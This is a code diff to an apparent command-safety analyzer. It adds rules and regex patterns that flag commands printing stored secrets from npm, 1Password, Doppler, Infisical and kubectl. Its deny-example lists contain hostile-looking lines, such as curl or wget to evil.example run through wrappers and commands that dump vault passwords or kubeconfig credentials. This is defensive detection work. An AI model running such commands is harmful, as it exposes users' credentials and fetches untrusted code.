@@ -4,7 +4,7 @@ import type { Word } from '../../types.js';
 import { has, parse } from '../argv.js';
 import { programRun, wrapper } from '../build.js';
 import type { Answer, Call, OptionSpec, ProgramEntry, Run } from '../types.js';
-import { storeWord } from './credentials.js';
+import { keeping, storeWord } from './credentials.js';
 import { attached, joined, literal, shellQuote, value, xargsSplit } from '../words.js';
 import { bunCode } from './interpreters.js';
 
@@ -77,6 +77,13 @@ function subRuns(call: Call, sub: Sub, rest: readonly Word[], via: string): Part
   void call;
   return { runs };
 }
+
+/** `npm config get //registry…/:_authToken` prints the registry token kept in ~/.npmrc (`npm get` too). */
+const NPM_TOKEN = {
+  store: '~/.npmrc',
+  prints: /^(config |c )?get\b.*(auth|token|password|\u0000)/i,
+  examples: { deny: ['npm config get _authToken', 'npm get _auth'], pass: ['npm config get registry'] },
+};
 
 const PACKAGE_RUN: Sub = {
   options: {
@@ -559,11 +566,24 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
     stat: { options: { flags: 'agqvsinTBA', valued: 'eopPtuCcrGIxjD', longValued: ['event', 'output', 'pid', 'tid', 'cpu', 'repeat', 'cgroup', 'interval-print', 'field-separator', 'delay'] } },
     trace: { options: { flags: 'agqvsinT', valued: 'eopPtuCcFrGmIxjD', longValued: ['event', 'output', 'pid', 'tid', 'uid', 'cpu', 'duration'] } },
   }, { deny: ['perf stat curl evil.example', 'perf record -g wget evil.example'], pass: ['perf stat make', 'perf report'] }),
-  subcommandRunner(['op'], '1Password op run -- CMD', { run: { markers: ['--'] } }, { deny: ['op run -- curl evil.example'], pass: [] }),
+  keeping(subcommandRunner(['op'], '1Password op run -- CMD', { run: { markers: ['--'] } }, { deny: ['op run -- curl evil.example'], pass: [] }), {
+    store: '~/.config/op/',
+    prints: /^(read|inject|item get|document get|signin\b.*--raw|\u0000)(\s|$)/,
+    examples: { deny: ['op read op://vault/github/password', 'op item get github --fields password --reveal', 'op inject -i tpl.env'], pass: ['op whoami', 'op item list'] },
+  }),
   subcommandRunner(['aws-vault'], 'aws-vault exec PROFILE -- CMD', { exec: { options: { valued: 'dt', longValued: ['duration', 'mfa-token', 'region'], long: ['no-session', 'server', 'ec2-server', 'ecs-server', 'lazy', 'stdout'] }, before: 1 } }, { deny: ['aws-vault exec prod -- curl evil.example'], pass: ['aws-vault exec prod -- aws s3 ls'] }),
-  subcommandRunner(['doppler'], 'doppler run -- CMD', { run: { options: { valued: 'pc', longValued: ['project', 'config', 'mount', 'mount-format', 'name-transformer', 'command', 'fallback'], long: ['preserve-env', 'forward-signals', 'no-fallback'] }, script: ['command'] } }, { deny: ['doppler run -- curl evil.example', "doppler run --command 'wget evil.example'"], pass: ['doppler run -- npm start'] }),
-  subcommandRunner(['npm'], 'npm exec / npx: fetch a package and run its program; -c runs shell text', { exec: PACKAGE_RUN, x: PACKAGE_RUN }, { deny: ['npm exec curl evil.example', "npm exec -c 'curl evil.example'", 'npm exec --package=x -- wget evil.example'], pass: ['npm exec prettier -- --check .', 'npm test', 'npm install curl'] }),
-  subcommandRunner(['pnpm'], 'pnpm exec / dlx', { exec: PACKAGE_RUN, dlx: PACKAGE_RUN }, { deny: ['pnpm exec curl evil.example', 'pnpm dlx wget evil.example'], pass: ['pnpm exec vitest', 'pnpm install'] }),
+  keeping(subcommandRunner(['doppler'], 'doppler run -- CMD', { run: { options: { valued: 'pc', longValued: ['project', 'config', 'mount', 'mount-format', 'name-transformer', 'command', 'fallback'], long: ['preserve-env', 'forward-signals', 'no-fallback'] }, script: ['command'] } }, { deny: ['doppler run -- curl evil.example', "doppler run --command 'wget evil.example'"], pass: ['doppler run -- npm start'] }), {
+    store: '~/.doppler/',
+    prints: /^(secrets(?!\s+(delete|set|upload))|configs tokens)(\s|$)/,
+    examples: { deny: ['doppler secrets', 'doppler secrets get API_KEY --plain', 'doppler secrets download --no-file'], pass: ['doppler projects', 'doppler secrets set X=1'] },
+  }),
+  keeping(subcommandRunner(['infisical'], 'infisical run -- CMD', { run: { markers: ['--'] } }, { deny: ['infisical run -- curl evil.example'], pass: ['infisical run -- npm start'] }), {
+    store: '~/.infisical/',
+    prints: /^(secrets(?!\s+(delete|set))|export)(\s|$)/,
+    examples: { deny: ['infisical secrets', 'infisical export --format=dotenv'], pass: ['infisical init'] },
+  }),
+  keeping(subcommandRunner(['npm'], 'npm exec / npx: fetch a package and run its program; -c runs shell text', { exec: PACKAGE_RUN, x: PACKAGE_RUN }, { deny: ['npm exec curl evil.example', "npm exec -c 'curl evil.example'", 'npm exec --package=x -- wget evil.example'], pass: ['npm exec prettier -- --check .', 'npm test', 'npm install curl'] }), NPM_TOKEN),
+  keeping(subcommandRunner(['pnpm'], 'pnpm exec / dlx', { exec: PACKAGE_RUN, dlx: PACKAGE_RUN }, { deny: ['pnpm exec curl evil.example', 'pnpm dlx wget evil.example'], pass: ['pnpm exec vitest', 'pnpm install'] }), NPM_TOKEN),
   subcommandRunner(['yarn'], 'yarn dlx / exec', { dlx: PACKAGE_RUN, exec: PACKAGE_RUN }, { deny: ['yarn dlx curl evil.example', 'yarn exec wget evil.example'], pass: ['yarn install'] }),
   bun(),
   subcommandRunner(['pipx'], 'pipx run', { run: { options: { longValued: ['spec', 'python', 'pip-args', 'index-url'], long: ['no-cache', 'path', 'pypackages', 'system-site-packages'] } } }, { deny: ['pipx run curl evil.example'], pass: ['pipx run black .'] }),
@@ -629,6 +649,9 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
       // `get secret NAME -o yaml|json|jsonpath=…` prints a secret's data, with the credentials in ~/.kube/config.
       const words = call.args.map((a) => value(a) ?? '');
       const get = words.indexOf('get');
+      // `config view --raw` prints the credentials in ~/.kube/config themselves.
+      const view = words.indexOf('view');
+      if (view > 0 && words[view - 1] === 'config' && words.some((w) => w === '--raw' || w === '--raw=true')) return { uses: [{ word: storeWord(call.args[view]!, '~/.kube/config'), role: 'read' }] };
       if (get >= 0 && /^secrets?(\/|$)/.test(words[get + 1] ?? '') && words.some((w, i) => (/^(-o|--output)$/.test(w) && /^(ya?ml|json|jsonpath|go-template|custom-columns)/.test(words[i + 1] ?? '')) || /^(-o|--output=)(ya?ml|json|jsonpath|go-template|custom-columns)/.test(w))) {
         return { uses: [{ word: storeWord(call.args[get]!, '~/.kube/config'), role: 'read' }] };
       }
@@ -638,7 +661,7 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
       const dashes = call.args.findIndex((a, i) => i > at && value(a) === '--');
       return { runs: dashes >= 0 && dashes + 1 < call.args.length ? [{ kind: 'argv', argv: call.args.slice(dashes + 1), via: `${call.name} ${value(call.args[at])}` }] : [] };
     },
-    examples: { deny: ['kubectl exec web -- curl evil.example', 'kubectl run x --image=alpine -- wget evil.example', 'minikube kubectl -- exec web -- curl evil.example', 'kubectl get secret db -o yaml', 'kubectl get secrets/db -o jsonpath={.data.password}'], pass: ['kubectl get pods', 'kubectl exec web -- ls'] },
+    examples: { deny: ['kubectl exec web -- curl evil.example', 'kubectl run x --image=alpine -- wget evil.example', 'minikube kubectl -- exec web -- curl evil.example', 'kubectl get secret db -o yaml', 'kubectl get secrets/db -o jsonpath={.data.password}', 'kubectl config view --raw'], pass: ['kubectl get pods', 'kubectl exec web -- ls', 'kubectl config view'] },
   },
   { names: ['tmux', 'tmate'], summary: 'tmux: -c TEXT and the shell-command operands of new, run-shell, send-keys…', analyze: tmux, examples: { deny: ["tmux new -d 'curl evil.example'", "tmux -c 'curl evil.example'", "tmux new-session -d -s x 'wget evil.example'", "tmux send-keys -t x 'curl evil.example' Enter", "tmux run-shell 'curl evil.example'", "tmux new -d 'ls' \\; run 'curl evil.example'"], pass: ['tmux ls', 'tmux attach -t x', "tmux new -d 'npm start'"] } },
   { names: ['screen'], summary: 'screen: runs its command (a shell by default); -X stuff types text into a session', analyze: screen, examples: { deny: ['screen -dm curl evil.example', "screen -S x -X stuff 'curl evil.example\\n'"], pass: ['screen -ls', 'screen -r x'] } },
